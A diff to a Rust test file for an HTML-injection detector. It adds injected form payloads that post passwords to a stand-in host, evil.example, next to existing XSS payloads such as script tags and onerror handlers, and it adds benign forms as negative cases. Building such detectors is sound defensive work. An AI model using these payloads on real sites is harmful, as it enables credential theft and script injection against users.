@@ -43,6 +43,9 @@ fn markup_that_people_send_as_well() {
 fn what_a_browser_would_run() {
     for text in [
         "<script>alert(1)</script>",
+        "<form action=//evil.example>",
+        "<form method=post action=\"https://evil.example/login\"><input type=password name=p></form>",
+        "<form action='//evil.example'><input name=password></form>",
         "<ScRiPt src=//x>",
         "<svg/onload=confirm()//",
         "<img src=x onerror=alert(1)>",
@@ -84,6 +87,10 @@ fn markup_and_prose_that_run_nothing() {
         "h2<h1",
         "JavaScript: Basics of JavaScript Language",
         "<b>one</b> on=two",
+        "<form action=\"/login\" method=\"post\"><input type=\"password\" name=\"p\"></form>",
+        "<form action=\"https://lists.example/subscribe\" method=\"post\"><input name=\"mail\"></form>",
+        "<form action=\"//lists.example/subscribe\"><input name=\"mail\"></form>",
+        "a <form> needs an action, say action=//x",
         "const f = (a) => alert(a);",
         "1 < 2 && on = 3",
         "prompt (and friendly) service",
